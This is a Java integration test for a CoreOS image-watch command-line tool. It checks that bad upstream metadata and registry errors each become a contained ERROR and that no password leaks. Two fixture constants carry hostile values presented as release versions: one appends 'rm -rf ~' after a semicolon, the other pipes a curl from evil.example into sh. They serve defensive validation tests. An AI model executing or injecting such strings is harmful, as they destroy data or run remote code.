package dev.coreoswatch.cli;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static dev.coreoswatch.cli.E2eFixtures.STABLE_KERNEL;
import static dev.coreoswatch.cli.E2eFixtures.STABLE_RELEASE;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.coreoswatch.model.Arch;
import dev.coreoswatch.testing.LocalRegistry;
import dev.coreoswatch.testing.LocalRegistry.Layout;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Bad answers from upstream and from registries, each confined to its own stream: that stream is
 * an ERROR with a message saying what was wrong, the others are still decided, nothing becomes a
 * BUILD, and the run exits 1. One run of the command line covers every stream; each test reads
 * its own stream from that run's report.
 */
class CheckBadInputIT {
    static final String TARGET_REPO = "owner/custom-coreos";
    static final String BASE_REPO = "fedora/fedora-coreos";
    static final String USER = "robot";
    /** Not a real credential: a marker that must never appear in anything the command prints. */
    static final String PASSWORD = "registry-pw-CANARY-5f2d9c";

    static final String HOSTILE_SEMICOLON = "44.20260707.3.1;rm -rf ~";
    static final String HOSTILE_SUBSHELL = "$(curl -s evil.example|sh)";
    static final String SPLIT_ARM = "44.20260714.3.0";
    static final String BASE_REFUSED_RELEASE = "42.20250915.3.0";
    static final String TARGET_FAULT_RELEASE = "44.20260718.3.0";
    static final List<String> STREAMS = List.of(
            "stable",
            "truncated",
            "not-json",
            "gone",
            "semicolon",
            "subshell",
            "split",
            "base-refused",
            "registry-fault");

    static FakeUpstream upstream;
    static LocalRegistry registry;
    static LocalRegistry privateRegistry;
    static RegistryProxy proxy;
    static CliRun.Result run;

    @BeforeAll
    static void start() {
        upstream = FakeUpstream.start();
        upstream.defaultZfs();
        upstream.build("stable", STABLE_RELEASE, STABLE_KERNEL);
        String whole = E2eFixtures.streamDocument("truncated", STABLE_RELEASE);
        upstream.streamAnswer("truncated", FakeUpstream.okJson(whole.substring(0, whole.length() / 3)));
        upstream.streamAnswer(
                "not-json",
                aResponse()
                        .withStatus(200)
                        .withHeader("Content-Type", "text/html")
                        .withBody("<html><body><h1>Service Unavailable</h1></body></html>"));
        upstream.streamAnswer(
                "gone",
                aResponse()
                        .withStatus(404)
                        .withHeader("Content-Type", "application/xml")
                        .withBody(
                                "<Error><Code>NoSuchKey</Code><Message>The specified key does not exist.</Message></Error>"));
        upstream.stream("semicolon", HOSTILE_SEMICOLON);
        upstream.stream("subshell", HOSTILE_SUBSHELL);
        upstream.stream("split", Map.of(Arch.X86_64, STABLE_RELEASE, Arch.AARCH64, SPLIT_ARM));
        // base-refused: no commitmeta, so the kernel chain asks the base image's registry, which wants credentials.
        upstream.stream("base-refused", BASE_REFUSED_RELEASE);
        for (Arch arch : List.of(Arch.X86_64, Arch.AARCH64)) {
            upstream.commitmetaAnswer(
                    "base-refused", BASE_REFUSED_RELEASE, arch, aResponse().withStatus(404));
        }
        upstream.build("registry-fault", TARGET_FAULT_RELEASE, STABLE_KERNEL);

        registry = LocalRegistry.anonymous();
        registry.seed()
                .image(
                        TARGET_REPO,
                        "stable",
                        Layout.OCI_INDEX,
                        TargetLabels.bothArches(STABLE_RELEASE, FakeUpstream.ZFS, STABLE_KERNEL))
                .push();
        privateRegistry = LocalRegistry.withBasicAuth(USER, PASSWORD);
        privateRegistry
                .seed()
                .image(
                        TARGET_REPO,
                        "stable",
                        Layout.OCI_INDEX,
                        TargetLabels.bothArches(STABLE_RELEASE, FakeUpstream.ZFS, STABLE_KERNEL))
                .image(
                        BASE_REPO,
                        BASE_REFUSED_RELEASE,
                        Layout.OCI_INDEX,
                        Map.of(
                                Arch.X86_64,
                                        E2eFixtures.legacyBaseImageLabels(
                                                BASE_REFUSED_RELEASE, "6.16.7-200.fc42.x86_64"),
                                Arch.AARCH64,
                                        E2eFixtures.legacyBaseImageLabels(
                                                BASE_REFUSED_RELEASE, "6.16.7-200.fc42.aarch64")))
                .push();
        // The target registry as seen by the command line: the real one, except one tag answers 500.
        proxy = RegistryProxy.inFrontOf(registry);
        proxy.answerManifest(
                TARGET_REPO,
                "registry-fault",
                aResponse()
                        .withStatus(500)
                        .withHeader("Content-Type", "application/json")
                        .withBody(
                                "{\"errors\":[{\"code\":\"UNKNOWN\",\"message\":\"unknown error\",\"detail\":\"storage backend down\"}]}"));

        Map<String, String> env = new HashMap<>(upstream.env());
        env.put("COREOS_STREAMS", String.join(",", STREAMS));
        env.put("TARGET_IMAGE", proxy.hostPort() + "/" + TARGET_REPO);
        env.put("COREOS_IMAGE", privateRegistry.hostPort() + "/" + BASE_REPO);
        env.put("REGISTRY_PLAIN_HTTP", proxy.hostPort() + "," + privateRegistry.hostPort());
        run = new CliRun().env(env).args("--json").run();
    }

    @AfterAll
    static void stop() {
        for (AutoCloseable c : new AutoCloseable[] {proxy, privateRegistry, registry, upstream}) {
            if (c != null) {
                try {
                    c.close();
                } catch (Exception e) {
                    System.err.println("closing " + c + ": " + e);
                }
            }
        }
    }

    private static ReportView report() {
        return run.report();
    }

    /** The stream is an ERROR whose one errors[] entry names {@code stage} and repeats the reason. */
    private static String errorReason(String stream, String stage) {
        JsonNode decision = report().decision(stream);
        assertEquals("ERROR", decision.path("action").asText(), decision::toPrettyString);
        assertEquals("NONE", decision.path("dispatch").path("status").asText(), decision::toPrettyString);
        String reason = decision.path("reason").asText();
        assertEquals(reason, report().onlyError(stream, stage).path("message").asText());
        assertTrue(reason.chars().noneMatch(c -> c < 0x20), () -> "one line: " + reason);
        return reason;
    }

    @Test
    void theRunExitsOneAndTheHealthyStreamIsStillDecided() {
        assertEquals(1, run.exitCode(), run::toString);
        report().assertShape();
        assertEquals(STREAMS, report().streams());
        assertEquals("SKIP", report().action("stable"), run::toString);
        assertEquals(0, report().errors("stable").size());
        assertEquals(STREAMS.size() - 1, report().root().path("errors").size(), run::toString);
        for (String stream : STREAMS) {
            assertFalse(report().action(stream).equals("BUILD"), () -> stream + " must not become a BUILD: " + run);
        }
    }

    @Test
    void truncatedStreamMetadata() {
        String reason = errorReason("truncated", "upstream");
        assertTrue(reason.contains("stream metadata of truncated") && reason.contains("not valid JSON"), reason);
    }

    @Test
    void streamMetadataThatIsNotJson() {
        String reason = errorReason("not-json", "upstream");
        assertTrue(reason.contains("stream metadata of not-json") && reason.contains("not valid JSON"), reason);
        assertTrue(reason.contains("<html>"), () -> "shows where it went wrong: " + reason);
    }

    @Test
    void aStreamThatDoesNotExist() {
        String reason = errorReason("gone", "upstream");
        assertTrue(reason.contains("stream gone not found at " + upstream.baseUrl() + "/streams/gone.json"), reason);
    }

    @Test
    void aReleaseWithAShellSeparatorIsNotAVersion() {
        String reason = errorReason("semicolon", "upstream");
        assertTrue(reason.contains("is not a version") && reason.contains("artifacts.metal.release"), reason);
        assertTrue(report().decision("semicolon").path("coreosVersion").isNull(), run::toString);
    }

    @Test
    void aReleaseWithACommandSubstitutionIsNotAVersion() {
        String reason = errorReason("subshell", "upstream");
        assertTrue(reason.contains("is not a version"), reason);
        assertTrue(report().decision("subshell").path("coreosVersion").isNull(), run::toString);
    }

    @Test
    void architecturesThatDisagreeOnTheReleaseNameBothVersions() {
        String reason = errorReason("split", "upstream");
        assertTrue(
                reason.contains(STABLE_RELEASE) && reason.contains(SPLIT_ARM) && reason.contains("disagree"), reason);
    }

    @Test
    void aBaseImageRegistryAnswering401IsAFaultNotAnUnknownKernel() {
        String reason = errorReason("base-refused", "upstream");
        assertTrue(reason.contains(privateRegistry.hostPort() + "/" + BASE_REPO + ":" + BASE_REFUSED_RELEASE), reason);
        assertTrue(reason.contains("asks for a username and password"), reason);
    }

    @Test
    void aTargetRegistryAnswering500IsAnErrorForThatTagOnly() {
        String reason = errorReason("registry-fault", "registry");
        assertTrue(reason.contains("registry " + proxy.hostPort() + " answered 500"), reason);
        // The upstream facts learnt before the registry failed are kept.
        JsonNode decision = report().decision("registry-fault");
        assertEquals(TARGET_FAULT_RELEASE, decision.path("coreosVersion").asText());
        assertEquals(
                STABLE_KERNEL + ".aarch64",
                report().arch("registry-fault", "aarch64").path("kernelVersion").asText());
    }

    @Test
    void aPrivateTargetRegistryIsNotVisibleWithoutTheCredentialsFromTheEnvironment() {
        Map<String, String> env = new HashMap<>(upstream.env());
        env.put("COREOS_STREAMS", "stable");
        env.put("TARGET_IMAGE", privateRegistry.hostPort() + "/" + TARGET_REPO);
        env.put("REGISTRY_PLAIN_HTTP", privateRegistry.hostPort());

        CliRun.Result refused = new CliRun().env(env).args("--json").run();

        // docs/contract.md section 7: without credentials, a registry that denies an anonymous read is "not visible",
        // and
        // the image counts as not built (the first build of a new, private package); the reason says so.
        assertEquals(0, refused.exitCode(), refused::toString);
        JsonNode decision = refused.report().decision("stable");
        assertEquals("BUILD", decision.path("action").asText(), refused::toString);
        String reason = decision.path("reason").asText();
        assertTrue(
                reason.contains("not visible anonymously")
                        && reason.contains("asks for a username and password")
                        && reason.contains("registry.username"),
                decision::toPrettyString);
        assertEquals(0, refused.report().root().path("errors").size(), refused::toString);

        env.put("REGISTRY_USERNAME", USER);
        env.put("REGISTRY_PASSWORD", PASSWORD);
        CliRun.Result allowed = new CliRun().env(env).args("--json").run();

        assertEquals(0, allowed.exitCode(), allowed::toString);
        assertEquals("SKIP", allowed.report().action("stable"), allowed::toString);
        assertFalse(allowed.everything().contains(PASSWORD), "the registry password is printed somewhere");
        assertFalse(refused.everything().contains(PASSWORD));
    }
}
